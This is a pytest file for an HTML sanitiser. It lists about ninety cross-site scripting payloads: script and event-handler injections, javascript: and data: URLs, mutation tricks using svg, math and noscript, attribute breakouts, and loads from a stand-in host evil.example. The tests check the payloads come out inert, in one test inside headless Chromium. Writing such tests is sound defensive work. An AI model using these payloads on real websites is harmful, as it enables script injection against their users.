"""Hostile markup: nothing that runs is left, in the string and in the tree a browser's parser would build of it."""

# ruff: noqa: E501
from __future__ import annotations

import re
import shutil
import subprocess
from itertools import product
from pathlib import Path

import pytest
from lxml import html as lxml_html

from broadsheet.html import canonical_body, headline_text, iter_pictures, plain_text

TAGS = (
    "a bdi bdo blockquote br caption cite code dd dl dt em figcaption figure h2 h3 h4 hr img li ol p pre q rp rt ruby s"
)
ALLOWED = {*TAGS.split(), "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ATTRIBUTES = {"href", "src", "alt", "width", "height", "lang", "dir", "colspan", "rowspan", "start"}
RUN = "alert(document.domain)"

PAYLOADS = {
    # the plain ways
    "script": f"<script>{RUN}</script>",
    "script in upper case with a space": f"<SCRIPT >{RUN}</SCRIPT >",
    "script without an end": f"<script>{RUN}",
    "script half closed": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with attributes": f"<script/x src=//evil.example/x.js></script><script\n>{RUN}</script\n>",
    "script cut by a NUL": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "script cut by zero width": f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    "handler": f"<img src=x onerror={RUN}>",
    "handler after a slash": f"<img/src=x/onerror={RUN}>",
    "handler after a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "handler in mixed case": f"<p oNcLiCk={RUN}>x</p>",
    "handler on details": f"<details open ontoggle={RUN}>x</details>",
    "handler on body": f"<body onload={RUN}><p>x",
    "handler on a film": f"<video src=x onerror={RUN}><source onerror={RUN}></video>",
    "handler on a marquee": f"<marquee onstart={RUN}>x</marquee>",
    "focus": f"<input autofocus onfocus={RUN}><a tabindex=1 onfocus={RUN} autofocus>x</a>",
    # addresses
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript with a tab": f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    "javascript with line ends": f'<a href="java\nscript:{RUN}">x</a><a href="\njavascript:{RUN}">x</a>',
    "javascript after controls": f'<a href="&#1;&#14; javascript:{RUN}">x</a>',
    "javascript in references": "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "javascript in long references": '<a href="&#0000106avascript&colon;alert(1)">x</a>',
    "javascript in mixed case": f'<a href="JaVaScRiPt:{RUN}">x</a>',
    "javascript after zero width": f'<a href="\u200bjavascript:{RUN}">x</a>',
    "javascript through an absolute base": f'<base href="javascript:{RUN}//"><a href="x">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data link in base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data picture": "<img src=\"data:image/svg+xml,<svg onload='alert(1)'/>\">",
    "blob and file": '<a href="blob:https://x.example/1">x</a><a href="file:///etc/passwd">y</a>',
    "javascript picture": f'<img src="javascript:{RUN}"><img srcset="javascript:{RUN} 1x">',
    "javascript in lazy attributes": f'<img data-src="javascript:{RUN}" data-original="vbscript:x" src="data:,">',
    "javascript poster": f'<video poster="javascript:{RUN}" src="javascript:{RUN}"></video>',
    "javascript frame": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
    "frame that only looks known": '<iframe src="javascript://www.youtube.com/embed/abcdefghijk%0aalert(1)"></iframe>',
    "breaking out of a frame's address": "<iframe src='https://v.qq.com/\"onload=alert(1) x=\"'></iframe>",
    "breaking out of a link": "<a href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
    "breaking out of a picture": "<img src='https://x.example/\"onerror=\"alert(1)'>",
    "breaking out of an alternative": "<img src=/x alt='\"><script>alert(1)</script>'>",
    "breaking out of an alternative with references": "<img src=/x alt='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "breaking out of a language": "<p lang='\" onclick=alert(1) x=\"'>x</p><p dir='rtl\" onclick=\"1'>y</p>",
    "breaking out of digits": "<td colspan='2\" onclick=\"1'>x</td><img src=/x width='1\" onerror=\"1'>",
    "backquotes": "<img src=`x` onerror=`alert(1)`><a href=`javascript:alert(1)`>x</a>",
    # styles, forms, documents
    "style": "<style>@import'//evil.example';</style><p style='background:url(javascript:alert(1))'>x</p>",
    "style expression": "<div style=\"width: expression(alert(1));\">x</div>",
    "link and meta": "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "form": f"<form action='javascript:{RUN}'><input type=submit><button formaction='javascript:{RUN}'>x</form>",
    "object and embed": f"<object data='javascript:{RUN}'></object><embed src='javascript:{RUN}'>",
    "applet and isindex": "<applet code=x></applet><isindex type=image src=1 onerror=alert(1)>",
    "table background": "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x",
    "map": "<map name=m><area href='javascript:alert(1)' shape=default></map><img usemap=#m src=/x>",
    "portal and dialog": "<portal src='javascript:alert(1)'></portal><dialog open oncancel=alert(1)>x</dialog>",
    "import": "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "names that hide others": "<img name=getElementById src=/x><a id=attributes>x</a><form id=document>y</form>",
    # foreign content and markup that changes when it is read again
    "svg": f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x></svg>",
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "svg set": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "svg foreignobject": "<svg><foreignobject><iframe srcdoc='<script>1</script>'></foreignobject></svg>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg title style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "svg desc": "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "math": "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "math href": "<math href='javascript:alert(1)'>x</math>",
    "math maction": "<math><maction actiontype=statusline#//evil xlink:href='javascript:alert(1)'>x</maction></math>",
    "mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mglyph with a comment": "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=alert(1)>",
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "annotation": "<math><annotation-xml encoding='text/html'><p><style></math><img src=x onerror=alert(1)></style>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "noscript style": "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "noembed, noframes, xmp": "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>"
    "<noframes><p title='</noframes><img src onerror=alert(1)>'><xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "iframe text": "<iframe><img title='</iframe><img src onerror=alert(1)>'></iframe>",
    "textarea and title": "<textarea><img title='</textarea><img src onerror=alert(1)>'><title><a title='</title><img src onerror=1>'>",
    "template": "<template><img src=x onerror=alert(1)><script>alert(1)</script></template>",
    "select": "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "declarations": "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;<?php echo '<script>' ?><?xml-stylesheet href='javascript:1'?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><p><![CDATA[<img src=x onerror=alert(1)>]]></p>",
    "unclosed attribute": "<img src='x onerror=alert(1)//",
    "equals before a name": "<img =\"x\" src=x onerror=alert(1) =>",
    "nested links": "<a href=https://x.example/><a href='javascript:alert(1)'>x</a></a>",
    "escaped markup stays text": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
    "escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "pre": "<pre>&lt;script&gt;\nalert(1)&lt;/script&gt;</pre><pre>\n</pre><img src=x onerror=alert(1)>",
    "many a that reopen": "<a href=/1><b>" * 30 + "<p></a><script>alert(1)</script>",
    "depth": "<div>" * 3000 + "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "custom elements": "<x-y onclick=alert(1) is=script><slot onslotchange=alert(1)>x</slot></x-y>",
    "figure made of handlers": "<figure onclick=alert(1)><img src=/x onerror=alert(1)><figcaption onclick=alert(1)>x<script>1</script>",
    "table made of handlers": "<table onclick=1><caption onclick=1>c<tr onclick=1><td onclick=1>1<td><script>1</script>2</table>",
}  # fmt: skip

RUNS = re.compile(
    r"""(?ix)<[^<>]*\son\w+\s*= | <\s*(?:script|style|iframe|object|embed|svg|math|base|meta|form|input|link|template
    |noscript|textarea|title|frame|portal|plaintext|xmp|select|button)\b | <[^<>]*\s(?:style|id|name|class|srcset)\s*="""
)
SCHEME = re.compile(r"\s*[a-zA-Z][a-zA-Z0-9+.\s-]*:")


def check_inert(body: str) -> None:
    assert not RUNS.search(re.sub(r'"[^"]*"', '""', body)), body
    if not body:
        return
    for element in lxml_html.fromstring(f"<div>{body}</div>").iterdescendants():
        assert element.tag in ALLOWED, body
        assert set(element.attrib) <= ATTRIBUTES, body
        for name in ("href", "src"):
            address = element.get(name, "https://x.example/")
            assert re.match(r"https?://|mailto:", address) or not SCHEME.match(address), body


AROUND = ("{}", "<p>before {} after</p>", "<ul><li>{}</ul>", "<table><tr><td>{}<td>x</table>")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_nothing_that_runs_is_left(payload: str) -> None:
    for around, base_url in product(AROUND, (None, "https://outlet.example/a")):
        body = canonical_body(around.format(payload), base_url=base_url)
        check_inert(body)
        assert canonical_body(body, base_url=base_url) == body, (around, base_url)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_payloads_in_attributes_and_captions_do_not_break_out(payload: str) -> None:
    quoted = payload.replace("&", "&amp;").replace('"', "&quot;")
    body = canonical_body(
        f'<img src="https://p.example/{quoted}" alt="{quoted}"><div class="caption">{payload}</div>'
        f'<a href="https://x.example/{quoted}">x</a><p lang="{quoted}" dir="{quoted}">y</p>'
    )
    check_inert(body)
    for picture in iter_pictures(body):
        assert picture.url.startswith(("https://", "http://")) or not SCHEME.match(picture.url)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_the_readings_never_raise(payload: str) -> None:
    assert "\n" not in headline_text(payload)
    plain_text(payload)
    list(iter_pictures(payload))


HOOK = """<!DOCTYPE html><meta charset="utf-8"><script>
window.ran = 0; for (const name of ["alert", "confirm", "prompt"]) window[name] = () => { window.ran += 1; };
addEventListener("load", () => { for (const element of document.querySelectorAll("main, main *")) {
  for (const kind of ["mouseover", "focus", "toggle", "error", "pointerenter", "animationstart"]) {
    element.dispatchEvent(new Event(kind, {bubbles: true})); }
  if ((element.getAttribute("href") || "").trim().toLowerCase().startsWith("javascript:")) window.ran += 1;
  if (!/^https?:/i.test(element.getAttribute("href") || "https:")) continue;
  element.addEventListener("click", event => event.preventDefault()); element.dispatchEvent(new Event("click")); }
  setTimeout(() => document.documentElement.setAttribute("data-ran", window.ran), 500); });
</script><main>%s</main>"""


def count_runs(browser: str, markup: str, folder: Path) -> int:
    """How often something ran in a real browser with scripts allowed and every element touched."""
    page = folder / "page.html"
    page.write_text(HOOK % markup, "utf-8")
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--virtual-time-budget=4000"]
    offline = ["--host-resolver-rules=MAP * ~NOTFOUND", f"--user-data-dir={folder / 'profile'}", "--dump-dom"]
    done = subprocess.run([browser, *options, *offline, page.as_uri()], capture_output=True, timeout=120, check=False)
    found = re.search(rb'data-ran="(\d+)"', done.stdout)
    assert found, done.stderr[-500:]
    return int(found[1])


@pytest.mark.slow
def test_nothing_runs_in_a_real_browser(tmp_path: Path) -> None:
    browser = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if browser is None:
        pytest.skip("no Chromium on this machine")
    assert count_runs(browser, PAYLOADS["handler"], tmp_path) > 0
    bodies = [canonical_body(payload, base_url="https://outlet.example/a") for payload in PAYLOADS.values()]
    quoted = [payload.replace("&", "&amp;").replace('"', "&quot;") for payload in PAYLOADS.values()]
    bodies += [canonical_body(f'<img src="/x" alt="{text}"><a href="{text}">x</a>') for text in quoted]
    assert count_runs(browser, "\n".join(bodies), tmp_path) == 0
